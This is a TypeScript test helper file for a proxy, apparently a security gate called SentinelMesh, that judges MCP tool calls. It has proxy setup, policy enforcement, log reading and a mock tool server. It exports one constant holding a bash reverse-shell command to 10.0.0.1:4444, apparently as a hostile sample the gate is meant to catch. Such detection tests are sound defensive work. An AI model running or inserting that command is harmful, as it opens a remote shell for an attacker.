import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { PassThrough, type Writable } from 'node:stream'
import type { VerdictPolicyIn } from '@sentinelmesh/api'
import {
  proxyHttp,
  proxyParts,
  proxyStdio,
  type Fail,
  type HttpProxy,
  type Parts,
} from '@sentinelmesh/mcp-proxy/testing'
import type { Mesh } from './start-mesh.ts'
import { until } from './until.ts'

export interface ProxyTestOptions {
  /** The URL of the SentinelMesh server. Default: the mesh. */
  readonly url?: string
  readonly apiKey?: string
  readonly fail?: Fail
  readonly budgetMs?: number
  readonly onAsk?: 'policy' | 'block' | 'pass'
  readonly name?: string
  /** The folder for entries that cannot be sent. Default: none. */
  readonly spoolFolder?: string
}

/** Long enough for a busy machine, for tests that do not test the budget. */
const LONG_BUDGET_MS = 20_000

export async function partsFor(
  mesh: Mesh,
  target: string,
  options: ProxyTestOptions = {},
): Promise<Parts & { /** The warnings for the user who started the proxy. */ readonly warnings: readonly string[] }> {
  const { fail = 'open', budgetMs = LONG_BUDGET_MS, onAsk = 'policy', name = 'demo', spoolFolder = null } = options
  const warnings: string[] = []
  const parts = proxyParts({
    server: { name, transport: 'stdio', target },
    url: options.url ?? mesh.url,
    apiKey: options.apiKey ?? (await mesh.first.key(['verdict'])).key,
    fail,
    onAsk,
    budgetMs,
    spoolFolder,
    claudeSession: null,
    warn: (sentence) => warnings.push(sentence),
  })
  return { ...parts, warnings }
}

export interface StdioRun extends AsyncDisposable {
  readonly input: PassThrough
  /** All output so far. */
  readonly output: () => Buffer
  readonly lines: () => string[]
  readonly warnings: readonly string[]
  readonly session: string
  send(message: object | string): void
  /** Waits for the response with this id. */
  answer(id: number | string): Promise<{ result?: Record<string, unknown>; error?: Record<string, unknown> }>
  /** Closes the input and waits for the end. */
  end(): Promise<number>
  readonly ended: Promise<number>
  stop(): void
}

/** Runs the proxy in front of a server with this program text. The test controls input and output. */
export async function runStdio(
  mesh: Mesh,
  program: string,
  options: ProxyTestOptions & { output?: Writable; env?: Record<string, string> } = {},
): Promise<StdioRun> {
  const args = ['--input-type=module', '-e', program]
  const { gate, conversation, session, warnings } = await partsFor(mesh, `node -e ${program.slice(0, 1_000)}`, options)
  const input = new PassThrough()
  const chunks: Buffer[] = []
  const output = options.output ?? new PassThrough().on('data', (chunk: Buffer) => chunks.push(chunk))
  const stopping = new AbortController()
  const ended = proxyStdio({
    command: process.execPath,
    args,
    env: { ...process.env, ...options.env },
    conversation,
    gate,
    input,
    output,
    signal: stopping.signal,
  }).then(async ({ code }) => {
    await gate.close()
    return code
  })
  const text = () => Buffer.concat(chunks)
  const lines = () => text().toString('utf8').split('\n').slice(0, -1)
  return {
    input,
    output: text,
    lines,
    warnings,
    session,
    send: (message) => void input.write(typeof message === 'string' ? message : `${JSON.stringify(message)}\n`),
    async answer(id) {
      const found = () =>
        lines()
          .filter((line) => line.startsWith('{'))
          .map((line) => JSON.parse(line) as { id?: unknown; method?: unknown; result?: Record<string, unknown> })
          .find((message) => message.id === id && message.method === undefined)
      await until(() => found() !== undefined, `${id} is answered`)
      return found() ?? {}
    },
    async end() {
      input.end()
      return ended
    },
    ended,
    stop: () => stopping.abort(),
    async [Symbol.asyncDispose]() {
      stopping.abort()
      input.end()
      await ended
    },
  }
}

export async function runHttp(
  mesh: Mesh,
  upstream: string,
  options: ProxyTestOptions = {},
): Promise<HttpProxy & AsyncDisposable & { readonly session: string; readonly gate: Parts['gate'] }> {
  const { gate, newConversation, session } = await partsFor(mesh, upstream, options)
  const proxy = await proxyHttp({ upstream: new URL(upstream), host: '127.0.0.1', port: 0, gate, newConversation })
  return {
    ...proxy,
    session,
    gate,
    async [Symbol.asyncDispose]() {
      await proxy.close()
      await gate.close()
    },
  }
}

/** Sets the policy to enforce verdicts, with these changes. */
export async function enforce(mesh: Mesh, changes: Partial<VerdictPolicyIn> = {}): Promise<void> {
  const { trpc } = mesh.first.manager
  const { hash, updated_at: _at, updated_by: _by, ...policy } = await trpc.verdicts.policy.query()
  // A large budget, because other tests may keep the machine busy.
  const enforcing = { ...policy, mode: 'enforce' as const, budget_ms: 10_000, ...changes }
  await trpc.verdicts.setPolicy.mutate({ expected_hash: hash, policy: enforcing })
}

export interface SessionEntry {
  readonly kind: string
  readonly sender: string
  readonly receiver: string | null
  readonly context: string | null
  readonly payload: string
  readonly verdict: string | null
  readonly unjudged: boolean
  readonly attributes: Readonly<Record<string, unknown>>
}

/** Returns the logged entries of a session, oldest first. */
export async function entriesOfSession(mesh: Mesh, session: string): Promise<SessionEntry[]> {
  const { reader } = mesh.first
  const { items } = await reader.trpc.logs.page.query({ q: `session:${session}`, limit: 500, order: 'oldest' })
  return Promise.all(
    items.map(async ({ id }) => {
      const entry = await reader.trpc.logs.get.query({ id })
      const { kind, sender, receiver, context, payload, verdict = null, unjudged = false, attributes } = entry
      return { kind, sender, receiver, context, payload, verdict, unjudged, attributes: attributes ?? {} }
    }),
  )
}

/** A server that replies to `tools/call` with the given text and to `seen` with the lines that it has received. */
export const TOOLS = `
import { createInterface } from 'node:readline'
const say = (message) => process.stdout.write(JSON.stringify(message) + '\\n')
for await (const line of createInterface({ input: process.stdin })) {
  let got
  try { got = JSON.parse(line) } catch { continue }
  for (const { id, method, params } of [got].flat()) {
    if (method === 'tools/call') say({ jsonrpc: '2.0', id, result: { content: [{ type: 'text', text: String(params.arguments.text) }] } })
    else if (method === 'resources/read') say({ jsonrpc: '2.0', id, result: { contents: [{ uri: params.uri, text: 'read' }] } })
    else if (method === 'seen') say({ jsonrpc: '2.0', id, result: { lines: seen } })
    else if (method === 'env') say({ jsonrpc: '2.0', id, result: { env: process.env } })
    else if (method === 'exit') process.exit(params.code)
    else if (method === 'ask') say({ jsonrpc: '2.0', id: 's1', method: 'sampling/createMessage', params })
  }
  seen.push(line)
}
`.replace('const say', 'const seen = []\nconst say')

export const call = (id: number | string, text: string, name = 'say') => ({
  jsonrpc: '2.0',
  id,
  method: 'tools/call',
  params: { name, arguments: { text } },
})
export const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'

/** A server that accepts every request and never replies. */
export async function silentServer(): Promise<AsyncDisposable & { readonly url: string }> {
  const server = createServer(() => {})
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
